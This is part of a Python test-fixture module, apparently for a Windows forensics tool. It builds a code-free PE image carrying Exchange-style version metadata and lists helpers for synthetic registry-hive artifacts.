def _vs_block(key: str, value: bytes = b"", *, text: bool = False, children: Iterable[bytes] = ()) -> bytes:
    out = bytearray(6) + (key + "\0").encode("utf-16-le")
    out += bytes(-len(out) % 4)
    out += value
    for child in children:
        out += bytes(-len(out) % 4)
        out += child
    value_len = len(value) // 2 if text else len(value)
    struct.pack_into("<HHH", out, 0, len(out), value_len, 1 if text or not value else 0)
    return bytes(out)


def version_resource(version: tuple[int, int, int, int], product: str = "Microsoft® Exchange") -> bytes:
    """A VS_VERSIONINFO block with fixed file/product versions and the Exchange-style version strings."""
    a, b, c, d = version
    ms, ls = (a << 16) | b, (c << 16) | d
    fixed = struct.pack("<13I", 0xFEEF04BD, 0x00010000, ms, ls, ms, ls, 0x3F, 0, 0x40004, 1, 0, 0, 0)
    vstr = f"{a:02d}.{b:02d}.{c:04d}.{d:03d}"
    strings = [
        _vs_block(name, (val + "\0").encode("utf-16-le"), text=True)
        for name, val in (
            ("CompanyName", "Microsoft Corporation"),
            ("FileDescription", "Exchange Setup"),
            ("FileVersion", vstr),
            ("InternalName", "ExSetup.exe"),
            ("ProductName", product),
            ("ProductVersion", vstr),
        )
    ]
    table = _vs_block("040904B0", children=strings)
    sfi = _vs_block("StringFileInfo", children=[table])
    var = _vs_block("Translation", struct.pack("<HH", 0x0409, 0x04B0))
    vfi = _vs_block("VarFileInfo", children=[var])
    root = bytearray(_vs_block("VS_VERSION_INFO", fixed, children=[sfi, vfi]))
    struct.pack_into("<H", root, 4, 0)  # wType 0: the root's value is binary
    return bytes(root)


def exsetup_exe(version: tuple[int, int, int, int]) -> bytes:
    """A minimal 64-bit PE image whose only content is a version resource for ``version``."""
    res = version_resource(version)
    rva = 0x1000
    # resource directory: type 16 (RT_VERSION) -> id 1 -> language 0x409 -> data entry
    d1, d2, d3, de = 0, 24, 48, 72
    data_off = 88
    rsrc = bytearray(data_off)
    struct.pack_into("<IIHHHH", rsrc, d1, 0, 0, 0, 0, 0, 1)
    struct.pack_into("<II", rsrc, d1 + 16, 16, 0x80000000 | d2)
    struct.pack_into("<IIHHHH", rsrc, d2, 0, 0, 0, 0, 0, 1)
    struct.pack_into("<II", rsrc, d2 + 16, 1, 0x80000000 | d3)
    struct.pack_into("<IIHHHH", rsrc, d3, 0, 0, 0, 0, 0, 1)
    struct.pack_into("<II", rsrc, d3 + 16, 0x409, de)
    struct.pack_into("<IIII", rsrc, de, rva + data_off, len(res), 0, 0)
    rsrc += res
    raw_size = -(-len(rsrc) // 0x200) * 0x200
    rsrc += bytes(raw_size - len(rsrc))

    headers = bytearray(0x200)
    struct.pack_into("<2s58xI", headers, 0, b"MZ", 0x40)
    struct.pack_into("<4sHHIIIHH", headers, 0x40, b"PE\0\0", 0x8664, 1, 0x604B0A00, 0, 0, 0xF0, 0x22)
    opt = 0x58
    struct.pack_into("<HBBIIIII", headers, opt, 0x20B, 14, 0, 0, raw_size, 0, 0, rva)
    struct.pack_into(
        "<QIIHHHHHHIIIIHHQQQQII",
        headers,
        opt + 24,
        0x140000000,
        0x1000,
        0x200,
        6,
        0,
        15,
        0,
        6,
        0,
        0,
        rva + 0x1000,
        0x200,
        0,
        3,
        0x8160,
        0x100000,
        0x1000,
        0x100000,
        0x1000,
        0,
        16,
    )
    dirs = opt + 112
    struct.pack_into("<II", headers, dirs + 2 * 8, rva, len(rsrc))
    sect = opt + 0xF0
    struct.pack_into("<8sIIIIIIHHI", headers, sect, b".rsrc", len(rsrc), rva, raw_size, 0x200, 0, 0, 0, 0, 0x40000040)
    return bytes(headers) + bytes(rsrc)


__all__ = [
    "KB_APRIL",
    "KB_MARCH",
    "KB_MARCH_E2010",
    "Account",
    "ExchangeInstall",
    "Interface",
    "amcache_hive",
    "bam_value",
    "dirty_pair",
    "example_hive",
    "exchange_at",
    "exchange_install",
    "exsetup_exe",
    "ntuser_hive",
    "planted_amcache",
    "planted_ntuser",
    "planted_sam",
    "planted_software",
    "planted_system",
    "sam_f",
    "sam_hive",
    "sam_v",
    "shimcache_blob",
    "software_hive",
    "system_hive",
    "task",
    "task_actions",
    "userassist_value",
    "version_resource",
]
